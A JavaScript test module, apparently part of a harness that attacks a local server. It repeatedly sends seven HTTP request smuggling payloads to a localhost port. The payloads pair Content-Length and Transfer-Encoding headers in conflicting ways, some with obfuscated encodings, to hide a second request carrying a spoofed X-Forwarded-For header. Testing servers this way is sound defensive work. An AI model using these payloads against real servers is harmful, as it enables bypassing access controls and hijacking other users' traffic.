import { setTimeout as sleep } from 'node:timers/promises'
import { openConnection } from '../strangers.mjs'

const durationMs = 5000
const pauseMs = 5
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: website\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n'
/** Ways to make the two servers disagree about where a request ends. */
const attempts = [
  request('GET', ['Connection: content-length', `Content-Length: ${hidden.length}`], hidden),
  request('POST', ['Connection: close, content-length', `Content-Length: ${hidden.length}`], hidden),
  request('POST', ['Connection: transfer-encoding', 'Transfer-Encoding: chunked'], chunked(hidden)),
  request('POST', [`Content-Length: 4`, 'Transfer-Encoding: chunked'], `0\r\n\r\n${hidden}`),
  request('POST', ['Transfer-Encoding: xchunked'], `0\r\n\r\n${hidden}`),
  request('POST', ['Transfer-Encoding: chunked, identity'], `0\r\n\r\n${hidden}`),
  request('GET', ['Connection: host', `Content-Length: ${hidden.length}`], hidden),
]

export const smuggling = {
  id: 'smuggling',
  title: 'stranger: smuggles requests to the website behind the port',
  prepare: ({ targets, port }) => ({
    flags: ['--fallback', `http://127.0.0.1:${targets.website.port}`],
    bystander: { visits: `http://127.0.0.1:${port}` },
  }),
  run: async ({ port }) => {
    for (const until = performance.now() + durationMs; performance.now() < until;) {
      for (const attempt of attempts) {
        const socket = openConnection(port)
        socket.write(attempt)
        socket.setTimeout(2000, () => socket.destroy()).resume()
      }
      await sleep(pauseMs * attempts.length)
    }
  },
}

function request(method, fields, body) {
  return `${method} /page/attack HTTP/1.1\r\nHost: website\r\n${fields.join('\r\n')}\r\n\r\n${body}`
}

function chunked(text) {
  return `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
}
